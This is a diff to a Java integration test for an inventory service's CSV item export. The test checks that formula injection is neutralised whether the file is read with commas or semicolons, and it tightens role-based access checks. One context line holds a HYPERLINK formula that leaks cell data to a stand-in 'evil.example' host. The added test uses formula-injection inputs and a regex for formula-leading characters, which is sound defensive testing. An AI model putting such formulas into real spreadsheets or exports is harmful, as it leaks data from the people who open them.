@@ -3,6 +3,7 @@ package io.jobwright.inventory.item;
 import static org.awaitility.Awaitility.await;
 import static org.hamcrest.Matchers.equalTo;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.MappingIterator;
@@ -62,7 +63,7 @@ class ItemExportIT {
         .get(exported(role, request) + "/result")
         .then()
         .statusCode(200)
-        .contentType("text/csv")
+        .contentType("text/csv;charset=UTF-8")
         .header("Content-Disposition", "attachment; filename=\"items.csv\"")
         .extract()
         .asString();
@@ -161,6 +162,60 @@ class ItemExportIT {
     assertEquals("'=HYPERLINK(\"https://evil.example?x=\"&A1)", row.get("name"));
   }
 
+  /** The same file for who separates by commas, and for who separates by semicolons. */
+  @Test
+  void whicheverWayItIsReadNoCellIsCalculatedAndNothingIsLost() {
+    List<String> names =
+        List.of(
+            "Bolt;=1+1", "Nut;+cmd;x", "＝1+1", "-5 mm washer", "Müller \"A\", B", "a;\"=1", "end;");
+    for (int i = 0; i < names.size(); i++) {
+      String escaped = names.get(i).replace("\"", "\\\"");
+      shop.itemOf(
+          Shop.itemBody("0012" + i + ";=1+1", "PRODUCT", true)
+              .replaceFirst("The [^\"]*", java.util.regex.Matcher.quoteReplacement(escaped)));
+    }
+    String csv = file("owner", "{\"format\": \"CSV\"}");
+    List<Map<String, String>> rows = rows(csv);
+    for (int i = 0; i < names.size(); i++) {
+      Map<String, String> row = rows.get(names.size() - 1 - i);
+      assertEquals(14, row.size());
+      assertEquals("0012" + i + ";'=1+1", row.get("sku"));
+      assertEquals(names.get(i), row.get("name").replaceAll("(^|;)'", "$1"));
+    }
+    for (char separator : new char[] {',', ';'}) {
+      for (String cell : cells(csv, separator)) {
+        assertFalse(cell.matches("(?s)[=+\\-@＝＋－＠\t\r\n].*"), () -> separator + " gives " + cell);
+      }
+    }
+  }
+
+  /** As lenient spreadsheets read: quotes count at the beginning of a cell only. */
+  private static List<String> cells(String csv, char separator) {
+    List<String> cells = new ArrayList<>();
+    StringBuilder cell = new StringBuilder();
+    boolean quoted = false;
+    boolean begun = false;
+    for (int i = 0; i < csv.length(); i++) {
+      char one = csv.charAt(i);
+      if (quoted && one == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+        cell.append(csv.charAt(++i));
+      } else if (quoted && one == '"') {
+        quoted = false;
+      } else if (!begun && one == '"') {
+        quoted = true;
+        begun = true;
+      } else if (!quoted && (one == separator || one == '\n')) {
+        cells.add(cell.toString());
+        cell.setLength(0);
+        begun = false;
+      } else if (quoted || one != '\r') {
+        cell.append(one);
+        begun = true;
+      }
+    }
+    return cells;
+  }
+
   @Test
   void whoMayNotReadItemsGetsNeitherExportNorResult() {
     String path = exported("warehouse", "{\"format\": \"CSV\"}");
@@ -168,9 +223,12 @@ class ItemExportIT {
     shop.by("technician").body(request).post("/v1/items/exports").then().statusCode(403);
     for (String one : List.of(path, path + "/result")) {
       shop.by("technician").get(one).then().statusCode(403);
-      shop.by("accountant").get(one).then().statusCode(200);
+      shop.by("owner").get(one).then().statusCode(200);
       new Shop().by("owner").get(one).then().statusCode(404);
     }
+    shop.by("accountant").get(path).then().statusCode(200);
+    shop.by("accountant").get(path + "/result").then().statusCode(403);
+    shop.by("accountant").header("If-Match", "*").post(path + "/cancel").then().statusCode(403);
     assertTrue(path.startsWith("/v1/operations/iop_"), path);
   }
 
